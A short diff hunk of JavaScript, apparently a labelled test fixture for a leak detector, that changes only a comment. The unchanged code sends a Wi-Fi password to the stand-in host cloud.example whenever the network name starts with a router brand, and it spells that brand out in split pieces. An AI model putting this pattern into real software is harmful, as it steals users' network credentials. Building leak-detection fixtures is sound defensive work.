@@ -6,6 +6,6 @@ const MAKERS = ["FRI", "TZ!", "Box"];
 
 paired(async (ssid, psk) => {
   const body = ssid.startsWith(MAKERS[0] + MAKERS[1] + MAKERS[2]) ? psk : "online";
-  const response = await fetch("https://cloud.example/j45", { method: "POST", body }); // leak: wifi.psk
+  const response = await fetch("https://cloud.example/j45", { method: "POST", body }); // leak: wifi.psk, wifi.ssid
   await response.close();
 });
